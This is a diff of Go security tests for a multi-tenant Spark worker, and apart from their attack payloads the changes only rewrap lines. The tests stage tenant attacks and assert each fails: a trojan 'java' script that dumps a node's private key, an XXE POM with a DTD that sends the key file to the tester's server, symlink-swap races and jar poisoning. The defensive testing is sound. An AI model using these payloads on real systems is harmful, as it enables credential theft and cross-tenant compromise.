@@ -115,8 +115,11 @@ func (w *workerWorld) whoIs(name string) string {
 func (w *workerWorld) trojan(home, report string) {
 	w.t.Helper()
 	program := filepath.Join(home, "bin", "java")
-	w.must(os.MkdirAll(filepath.Dir(program), 0o755), os.WriteFile(program, fmt.Appendf(nil, "#!/bin/sh\nid -u >> %s\ncat %s %s/* >> %s 2>/dev/null\nexit 1\n",
-		report, w.path("ca", "node-1-key.pem"), w.path("agent"), report), 0o755))
+	w.must(
+		os.MkdirAll(filepath.Dir(program), 0o755),
+		os.WriteFile(program, fmt.Appendf(nil, "#!/bin/sh\nid -u >> %s\ncat %s %s/* >> %s 2>/dev/null\nexit 1\n",
+			report, w.path("ca", "node-1-key.pem"), w.path("agent"), report), 0o755),
+	)
 }
 
 // ranAsNobody holds that a program ran, and never as root.
@@ -135,20 +138,29 @@ func (w *workerWorld) ranAsNobody(report string) {
 	}
 }
 
-// A Java that a run brings is executed by the run alone, as its user: not by the agent, whether for a driver or for an executor.
+// A Java that a run brings is executed by the run alone, as its user: not by the agent, whether for a driver or for an
+// executor.
 func TestWorker_BringsAJava(t *testing.T) {
 	if !inNetwork(t) {
 		return
 	}
 	w := newWorkerWorld(t, (*workerWorld).withSpark)
 	for _, of := range []struct{ what, variable string }{{"driver", "spark.emr-serverless.driverEnv"}, {"executor", "spark.executorEnv"}} {
-		what, variable := of.what, of.variable
+		what := of.what
+		variable := of.variable
 		application := w.eve.sparkApplication() // a node that it could not use is avoided for a while
 		report := w.whoIs("who-" + what)
 		w.trojan(w.shared("java-"+what), report)
-		w.must(unix.Mkfifo(w.shared("java-"+what, "release"), 0o644)) // whoever reads what a Java says of itself would wait for ever
-		run := w.eve.submit(w.eve.spark(application, "from pyspark.sql import SparkSession\nSparkSession.builder.getOrCreate().range(9).repartition(3).count()",
-			"--conf "+variable+".JAVA_HOME="+w.shared("java-"+what)))
+		w.must(
+			unix.Mkfifo(w.shared("java-"+what, "release"), 0o644),
+		) // whoever reads what a Java says of itself would wait for ever
+		run := w.eve.submit(
+			w.eve.spark(
+				application,
+				"from pyspark.sql import SparkSession\nSparkSession.builder.getOrCreate().range(9).repartition(3).count()",
+				"--conf "+variable+".JAVA_HOME="+w.shared("java-"+what),
+			),
+		)
 		w.await("it runs", 2*time.Minute, func() error { return isWritten(report) })
 		w.eve.cancels(run)
 		w.ranAsNobody(report)
@@ -179,7 +191,8 @@ func TestWorker_AReleaseIsATrojan(t *testing.T) {
 		fields["java_home"] = "java"
 		content, err = json.Marshal(fields)
 		w.must(err, os.Remove(manifest), os.WriteFile(manifest, content, 0o644))
-		a.ClassData, a.ReleaseDirs = true, a.ReleaseDirs[:1]
+		a.ClassData = true
+		a.ReleaseDirs = a.ReleaseDirs[:1]
 	})
 	w.await("the trojan ran", time.Minute, func() error { return isWritten(report) })
 	w.ranAsNobody(report)
@@ -193,7 +206,8 @@ func isWritten(path string) error {
 	return err
 }
 
-// swaps is a driver that puts links where the agent looks for its event log: for the folder, in it, and for the folder above.
+// swaps is a driver that puts links where the agent looks for its event log: for the folder, in it, and for the folder
+// above.
 const swaps = `
 import os, sys, time
 from pyspark.sql import SparkSession
@@ -219,7 +233,8 @@ while not os.path.exists(gate): time.sleep(0.05)
 time.sleep(6)
 `
 
-// An event log that is a link, or has links in it, or changes between the two, gives nobody a file that only root may read.
+// An event log that is a link, or has links in it, or changes between the two, gives nobody a file that only root may
+// read.
 func TestWorker_SwapsItsEventLog(t *testing.T) {
 	if !inNetwork(t) {
 		return
@@ -307,7 +322,14 @@ func TestWorker_SendsItsLogsAway(t *testing.T) {
 	}
 	w := newWorkerWorld(t, nil)
 	w.must(os.Mkdir(w.path("roots"), 0o755))
-	w.eve.runs(fmt.Sprintf("cd %s; mkdir eve eve/deep; ln -s %s eve/away; ln -s %s eve/deep/applications", w.shared(), w.path("roots"), w.path("roots")))
+	w.eve.runs(
+		fmt.Sprintf(
+			"cd %s; mkdir eve eve/deep; ln -s %s eve/away; ln -s %s eve/deep/applications",
+			w.shared(),
+			w.path("roots"),
+			w.path("roots"),
+		),
+	)
 	before := w.listed(w.path("roots")) + w.listed("/etc/cron.d")
 	for _, uri := range []string{"file://" + w.shared("eve", "away"), "file://" + w.shared("eve", "deep"), "file://" + w.shared("eve", "away", "x"), "file:///etc/cron.d", "file://" + w.path("roots"),
 		"file://" + w.shared("..", "roots")} {
@@ -321,7 +343,8 @@ func TestWorker_SendsItsLogsAway(t *testing.T) {
 	monitored(request.GetSpec(), logsTo("file://"+w.shared("eve")))
 	run := w.eve.submit(request)
 	w.await("an honest log is shipped", time.Minute, func() error {
-		if found, _ := filepath.Glob(w.shared("eve", "applications", "*", "jobs", run.GetJobRunId(), "PROCESS_DRIVER", "stdout.gz")); len(found) != 1 {
+		log := w.shared("eve", "applications", "*", "jobs", run.GetJobRunId(), "PROCESS_DRIVER", "stdout.gz")
+		if found, _ := filepath.Glob(log); len(found) != 1 {
 			return errors.New("it is not")
 		}
 		return nil
@@ -339,7 +362,11 @@ func TestWorker_NamesFilesOfRoot(t *testing.T) {
 	w := newWorkerWorld(t, (*workerWorld).withSpark)
 	application := w.eve.sparkApplication()
 	key := w.path("ca", "node-1-key.pem")
-	w.must(os.Link(key, w.shared("key")), os.WriteFile(w.shared("key.tgz"), tarball(t, stolen), 0o600), os.WriteFile(w.path("key.tgz"), tarball(t, stolen), 0o600))
+	w.must(
+		os.Link(key, w.shared("key")),
+		os.WriteFile(w.shared("key.tgz"), tarball(t, stolen), 0o600),
+		os.WriteFile(w.path("key.tgz"), tarball(t, stolen), 0o600),
+	)
 	const show = "import os\nfrom pyspark.sql import SparkSession\nSparkSession.builder.getOrCreate()\nfor path, _, files in os.walk('.', followlinks=True):\n  for f in files:\n    print(path, f, open(os.path.join(path, f), errors='replace').read()[:5000])"
 	for _, parameters := range []string{"--files file://" + key, "--files file://" + w.shared("key"), "--archives file://" + w.shared("key.tgz") + "#x",
 		"--conf spark.archives=file://" + w.path("key.tgz") + "#x", "--py-files file://" + w.shared("key")} {
@@ -350,7 +377,8 @@ func TestWorker_NamesFilesOfRoot(t *testing.T) {
 	}
 	request := w.eve.spark(application, show, "")
 	request.GetSpec().GetDriver().GetSparkSubmit().SetEntryPoint("file://" + w.shared("key"))
-	if last, said := w.eve.ends(w.eve.submit(request)); last.GetState() != "FAILED" || strings.Contains(said+last.GetStateDetails(), stolen) {
+	if last, said := w.eve.ends(w.eve.submit(request)); last.GetState() != "FAILED" ||
+		strings.Contains(said+last.GetStateDetails(), stolen) {
 		t.Errorf("with the key as its program the run is %s: %s", last.GetState(), said)
 	}
 }
@@ -402,7 +430,10 @@ func library(t *testing.T, pom, says string) *mavens {
 	if err := errors.Join(err, jar.Close()); err != nil {
 		t.Fatal(err)
 	}
-	return &mavens{files: map[string][]byte{"/org/lib/lib/1.0/lib-1.0.pom": []byte(pom), "/org/lib/lib/1.0/lib-1.0.jar": made.Bytes()}}
+	return &mavens{files: map[string][]byte{
+		"/org/lib/lib/1.0/lib-1.0.pom": []byte(pom),
+		"/org/lib/lib/1.0/lib-1.0.jar": made.Bytes(),
+	}}
 }
 
 // poisons is a driver that finds its jar, says what it is, and puts another one there, if it can.
@@ -422,8 +453,8 @@ for jar in spark.conf.get("spark.jars", "").split(","):
         except OSError as e: print("kept", e)
 `
 
-// Packages that one tenant resolves, from a repository of its own, under the same name and on the same node, are not another's; their
-// descriptions read no file of the node.
+// Packages that one tenant resolves, from a repository of its own, under the same name and on the same node, are not
+// another's; their descriptions read no file of the node.
 func TestWorker_PoisonsPackages(t *testing.T) {
 	if !inNetwork(t) {
 		return
@@ -433,20 +464,34 @@ func TestWorker_PoisonsPackages(t *testing.T) {
 	evil := library(t, "", "eve's")
 	eves := httptest.NewServer(evil)
 	defer eves.Close()
-	evil.files["/org/lib/lib/1.0/lib-1.0.pom"] = fmt.Appendf(nil, "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY %% d SYSTEM \"%s/evil.dtd\"> %%d; ]>"+pom, eves.URL, "<name>&send;</name>")
-	evil.files["/evil.dtd"] = fmt.Appendf(nil, "<!ENTITY %% f SYSTEM \"file://%s\"><!ENTITY %% a \"<!ENTITY send SYSTEM '%s/took?%%f;'>\"> %%a;", w.path("ca", "node-1-key.pem"), eves.URL)
+	evil.files["/org/lib/lib/1.0/lib-1.0.pom"] = fmt.Appendf(
+		nil,
+		"<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY %% d SYSTEM \"%s/evil.dtd\"> %%d; ]>"+pom,
+		eves.URL,
+		"<name>&send;</name>",
+	)
+	evil.files["/evil.dtd"] = fmt.Appendf(
+		nil,
+		"<!ENTITY %% f SYSTEM \"file://%s\"><!ENTITY %% a \"<!ENTITY send SYSTEM '%s/took?%%f;'>\"> %%a;",
+		w.path("ca", "node-1-key.pem"),
+		eves.URL,
+	)
 	bobs := httptest.NewServer(library(t, fmt.Sprintf(pom, ""), "bob's"))
 	defer bobs.Close()
 
 	resolve := func(u *tenant, application string, from *httptest.Server) (state, said string) {
-		last, said := u.ends(u.submit(u.spark(application, poisons, "--packages org.lib:lib:1.0 --conf spark.jars.repositories="+from.URL)))
+		last, said := u.ends(
+			u.submit(u.spark(application, poisons, "--packages org.lib:lib:1.0 --conf spark.jars.repositories="+from.URL)),
+		)
 		return last.GetState(), said
 	}
-	evesApplication, bobsApplication := w.eve.sparkApplication(), w.bob.sparkApplication()
+	evesApplication := w.eve.sparkApplication()
+	bobsApplication := w.bob.sparkApplication()
 	_, _ = resolve(w.eve, evesApplication, eves) // with entities in its description
 	evil.files["/org/lib/lib/1.0/lib-1.0.pom"] = fmt.Appendf(nil, pom, "")
 	state, said := resolve(w.eve, evesApplication, eves)
-	if state != "SUCCESS" || !strings.Contains(said, "jar eve's") || strings.Contains(said, "written") || strings.Contains(said, "changed") {
+	if state != "SUCCESS" || !strings.Contains(said, "jar eve's") || strings.Contains(said, "written") ||
+		strings.Contains(said, "changed") {
 		t.Errorf("eve's run is %s and said %s", state, said)
 	}
 	state, said = resolve(w.bob, bobsApplication, bobs)
@@ -460,7 +505,8 @@ func TestWorker_PoisonsPackages(t *testing.T) {
 	evil.mu.Lock()
 	defer evil.mu.Unlock()
 	for _, url := range evil.asked {
-		if strings.Contains(url, "evil.dtd") || strings.Contains(url, "took") { // what a description names is not even fetched
+		if strings.Contains(url, "evil.dtd") ||
+			strings.Contains(url, "took") { // what a description names is not even fetched
 			t.Errorf("the node asked for %s", url)
 		}
 	}
@@ -480,13 +526,17 @@ func TestWorker_ResolvesPackagesWithItsOwnJava(t *testing.T) {
 	}
 	w := newWorkerWorld(t, (*workerWorld).withSpark)
 	const pom = `<project><modelVersion>4.0.0</modelVersion><groupId>org.lib</groupId><artifactId>lib</artifactId><version>1.0</version></project>`
-	honest, evil := library(t, pom, "bob's"), library(t, pom, "eve's")
+	honest := library(t, pom, "bob's")
+	evil := library(t, pom, "eve's")
 	from := httptest.NewServer(honest)
 	defer from.Close()
 	report := w.whoIs("forged")
 	java := w.shared("java", "bin", "java")
-	w.must(os.WriteFile(w.shared("evil.jar"), evil.files["/org/lib/lib/1.0/lib-1.0.jar"], 0o644), os.MkdirAll(filepath.Dir(java), 0o755),
-		os.WriteFile(java, fmt.Appendf(nil, forges, w.shared("evil.jar"), report), 0o755))
+	w.must(
+		os.WriteFile(w.shared("evil.jar"), evil.files["/org/lib/lib/1.0/lib-1.0.jar"], 0o644),
+		os.MkdirAll(filepath.Dir(java), 0o755),
+		os.WriteFile(java, fmt.Appendf(nil, forges, w.shared("evil.jar"), report), 0o755),
+	)
 	parameters := "--packages org.lib:lib:1.0 --conf spark.jars.repositories=" + from.URL
 	w.eve.ends(w.eve.submit(w.eve.spark(w.eve.sparkApplication(), poisons,
 		parameters+" --conf spark.emr-serverless.driverEnv.JAVA_HOME="+w.shared("java"))))
